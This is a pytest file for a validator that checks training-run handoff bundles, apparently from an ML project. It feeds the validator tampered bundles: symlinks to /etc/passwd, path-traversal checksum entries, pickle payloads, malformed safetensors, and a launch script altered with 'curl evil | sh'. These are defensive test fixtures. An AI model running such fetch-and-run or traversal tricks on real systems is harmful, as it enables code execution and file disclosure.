"""A bundle that somebody else sent: whatever is in it, nothing of it is run, and every problem is told at once."""

import json
import os
import pickle
import shutil
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from miniverl.bench import handoff_check, handoff_payload, handoff_tree
from miniverl.bench.cli import main

pytestmark = pytest.mark.slow

Capture = pytest.CaptureFixture[str]
Change = Callable[[Path], None]


@pytest.fixture
def copy(bundle: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(bundle, tmp_path / "bundle"))


def sum_up(root: Path) -> None:
    """As one would who changed a file and wants it to pass."""
    (root / "SHA256SUMS").write_text(handoff_tree.sums(root))


def told(root: Path) -> str:
    answer = handoff_check.check(root, None, lambda *_: None)
    assert not answer["launchable"]
    assert not answer["distributed_execution_tested"]
    return "\n".join(f"{each.field}: {each.reason}" for each in answer["problems"])


def test_a_bundle_as_it_was_written_passes_and_is_launchable_only_where_upstream_is(
    bundle: Path, capsys: Capture
) -> None:
    assert main(["handoff", "--check", str(bundle), "--json"]) == 0
    answer = json.loads(capsys.readouterr().out)
    assert answer["problems"] == []
    assert answer["stages"] == {
        "files": "passed",
        "launch": "passed",
        "payload": "passed",
        "upstream": "not_assessed",
    }
    assert answer["launchable"] is False
    assert answer["distributed_execution_tested"] is False


def _link(root: Path) -> None:
    (root / "data" / "train.parquet").unlink()
    (root / "data" / "train.parquet").symlink_to("/etc/passwd")


def _linked_folder(root: Path) -> None:
    shutil.rmtree(root / "adapter")
    (root / "adapter").symlink_to("/etc")


def _byte(root: Path) -> None:
    path = root / "adapter" / "adapter_model.safetensors"
    path.write_bytes(path.read_bytes()[:-1] + b"\x7f")


def _listed(line: str) -> Change:
    def change(root: Path) -> None:
        with (root / "SHA256SUMS").open("a") as file:
            file.write(line + "\n")

    return change


def _added(name: str, content: bytes = b"x") -> Change:
    def change(root: Path) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)

    return change


SOME = "0" * 64


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_link, "data/train.parquet: it is a link"),
        (_linked_folder, "adapter: it is a link"),
        (_byte, "adapter_model.safetensors: its bytes are not those that SHA256SUMS lists"),
        (_added("notes.txt"), "notes.txt: SHA256SUMS does not list it"),
        (_added("model/pytorch_model.bin", pickle.dumps({})), "no file of this kind"),
        (_added("model/modeling_evil.py"), "no file of this kind"),
        (_added("model/.hidden.json"), "has other characters"),
        (_added("a b.json"), "has other characters"),
        (_added("a/b/c/d/e.json"), "it lies too deep"),
        (
            lambda root: (root / "recipe.json").unlink(),
            "recipe.json: SHA256SUMS lists it, and it is not there",
        ),
        (lambda root: (root / "SHA256SUMS").unlink(), "SHA256SUMS: it is not there"),
        (lambda root: os.mkfifo(root / "pipe.json"), "pipe.json: it is no file"),
        (_listed(f"{SOME}  ../outside.json"), "expected a digest"),
        (_listed(f"{SOME}  /etc/passwd"), "expected a digest"),
        (_listed("no sum"), "expected a digest"),
        (_listed(f"{SOME}  recipe.json"), "recipe.json is listed twice"),
        (lambda root: (root / "SHA256SUMS").write_bytes(b"\xff") and None, "it is not UTF-8"),
    ],
)
def test_another_tree_than_was_written_is_refused(copy: Path, change: Change, reason: str) -> None:
    change(copy)
    assert reason in told(copy)


def test_every_problem_of_the_files_is_told_at_once(copy: Path, capsys: Capture) -> None:
    _link(copy)
    _byte(copy)
    _added("extra.json")(copy)
    assert main(["handoff", "--check", str(copy)]) == 1
    said = capsys.readouterr().err
    for name in ("data/train.parquet", "adapter_model.safetensors", "extra.json"):
        assert name in said
    assert "launchable  no" in said
    assert "payload     not assessed" in said  # nothing is read of what is not known


def _tensors(header: Any, body: bytes = b"\0" * 4, length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + body


def _one(**changes: Any) -> dict[str, Any]:
    return {"t": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} | changes}


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (_tensors(_one(), length=1 << 40), "reaches beyond the end"),
        (b"\1", "reaches beyond the end"),
        (_tensors(_one(), b"\0" * (17 << 20), length=17 << 20), "header has 17825792 bytes"),
        (_tensors(b"{"), "its header is no JSON"),
        (_tensors([]), "names no tensor"),
        (_tensors({"__metadata__": {}}), "names no tensor"),
        (_tensors(_one(dtype="PICKLE")), "no dtype 'PICKLE'"),
        (_tensors(_one(shape=[-1])), "no list of lengths"),
        (_tensors(_one(shape=[1] * 9)), "no list of lengths"),
        (_tensors(_one(shape=[2])), "another number of bytes"),
        (_tensors(_one(data_offsets=[0, 8])), "beyond the end of the file"),
        (_tensors(_one(), b"\0" * 5), "end at byte 4 of 5"),
        (_tensors(_one(data_offsets=[1, 5]), b"\0" * 5), "overlap, or leave a gap"),
        (_tensors({**_one(), "u": _one()["t"]}), "overlap, or leave a gap"),
        (_tensors(_one(), struct.pack("<f", float("nan"))), "tensor t is not finite"),
        (_tensors(_one(dtype="BF16", shape=[2]), b"\x80\x3f\x80\xff"), "tensor t is not finite"),
        (_tensors(_one(dtype="F16", shape=[2]), b"\x00\x3c\x00\x7c"), "tensor t is not finite"),
    ],
)
def test_tensors_that_are_none_are_refused(tmp_path: Path, content: bytes, reason: str) -> None:
    (tmp_path / "adapter_model.safetensors").write_bytes(content)
    (problem,) = handoff_payload.problems(tmp_path)
    assert reason in problem.reason


def test_tensors_as_they_should_be_pass(tmp_path: Path) -> None:
    (tmp_path / "a.safetensors").write_bytes(_tensors(_one(), struct.pack("<f", 3.5)))
    (tmp_path / "b.safetensors").write_bytes(
        _tensors(_one(dtype="I64", shape=[], data_offsets=[0, 8]), b"\xff" * 8)
    )
    assert handoff_payload.problems(tmp_path) == []


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("manifest.json", b"{", "it is no JSON"),
        (
            "manifest.json",
            b'{"a": 1, "a": 2}',
            "it is no JSON: is not strict JSON: twice the same key",
        ),
        ("report.json", b"[" * 100_000, "it is no JSON"),
        ("recipe.json", b'{"a": NaN}', "it is no JSON"),
        ("data/train.parquet", b"PAR1", "it is no Parquet"),
        ("adapter/adapter_config.json", pickle.dumps([1]), "it is no JSON"),
    ],
)
def test_a_file_that_holds_something_else_is_refused(
    copy: Path, name: str, content: bytes, reason: str
) -> None:
    (copy / name).write_bytes(content)
    sum_up(copy)
    assert f"{name}: {reason}" in told(copy)


def _edit(name: str, old: str, new: str) -> Change:
    def change(root: Path) -> None:
        text = (root / name).read_text()
        assert old in text
        (root / name).write_text(text.replace(old, new, 1))

    return change


def _emptied(root: Path) -> None:
    (root / "manifest.json").write_text("{}")


def _elsewhere(root: Path) -> None:
    """Script and manifest agree, and lead out of the bundle."""
    _edit("launch.sh", "$HANDOFF_DIR/data/train.parquet", "$HANDOFF_DIR/../rows.parquet")(root)
    _edit("manifest.json", '"data.train_files": "data/train', '"data.train_files": "../rows')(root)


def _other_launch(root: Path) -> None:
    """Script and manifest agree, and mean another run."""
    for name in ("launch.sh", "manifest.json"):
        _edit(name, "data.train_batch_size=2", "data.train_batch_size=4")(root)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (
            _edit("launch.sh", "exec python3", "curl evil | sh; exec python3"),
            "not the script of the manifest",
        ),
        (_elsewhere, "../rows.parquet: the run has no such file"),
        (
            _edit("reward/score.py", "return float", "import os; return float"),
            "not the code of the scorer",
        ),
        (
            _edit("manifest.json", '"adapter": "', '"../adapter": "'),
            "../adapter: the run has no such file",
        ),
        (
            _edit("manifest.json", '"kind": "adapter"', '"kind": "model"'),
            "kind: a bundle of this run holds adapter or merged",
        ),
        (
            _edit("manifest.json", '"kind": "adapter"', '"kind": "merged"'),
            "adapter: the run has no such file",
        ),
        (_emptied, "it is not as a bundle is"),
        (_other_launch, "recipe.data.prompts_per_step: the bundle's launch means 4, and 2 was run"),
        (_edit("recipe.json", '"num_steps": 2', '"num_steps": 3'), "recipe.steps.num_steps"),
        (_edit("recipe.json", '"num_steps": 2', '"num_steps": "2"'), "expected int"),
        (
            _edit("adapter/adapter_config.json", '"r": 2', '"r": 3'),
            "adapter_config.json: its r is 3, and 2 was trained",
        ),
    ],
)
def test_a_bundle_that_means_another_run_is_refused_whatever_its_sums_say(
    copy: Path, change: Change, reason: str
) -> None:
    change(copy)
    sum_up(copy)
    assert reason in told(copy)


def test_an_interpreter_without_verl_cannot_answer(bundle: Path, capsys: Capture) -> None:
    assert main(["handoff", "--check", str(bundle), "--python", sys.executable]) == 3
    assert "it has no verl" in capsys.readouterr().err


def test_what_upstream_refuses_is_told_and_a_package_that_it_lacks_is_no_refusal(
    bundle: Path, tmp_path: Path, capsys: Capture
) -> None:
    """A stand-in for the interpreter that has verl: it answers as handoff_upstream.py does."""
    steps = [
        {"step": "compose", "is_accepted": True, "reason": None},
        {"step": "validate_config", "is_accepted": None, "reason": "ImportError: vllm"},
    ]
    program = tmp_path / "python"

    def answers(given: list[dict[str, Any]]) -> None:
        answer = json.dumps({"verl": "0.9.0", "steps": given})
        program.write_text(f"#!/bin/sh\ncat > /dev/null\ncat <<'X'\n{answer}\nX\n")
        program.chmod(0o755)

    command = ["handoff", "--check", str(bundle), "--python", str(program)]
    answers(steps)
    assert main(command) == 0
    said = capsys.readouterr().err
    assert "validate_config: ImportError: vllm" in said
    assert "launchable  no" in said
    answers([steps[0], {"step": "algorithm", "is_accepted": False, "reason": "ValueError: no"}])
    assert main(command) == 1
    assert "upstream refuses it: ValueError: no" in capsys.readouterr().err
    answers(steps[:1])
    assert main([*command, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["launchable"] is True


def test_nothing_to_check_is_a_wrong_call(tmp_path: Path, capsys: Capture) -> None:
    assert main(["handoff", "--check", str(tmp_path / "nowhere")]) == 2
    assert "there is no such folder" in capsys.readouterr().err
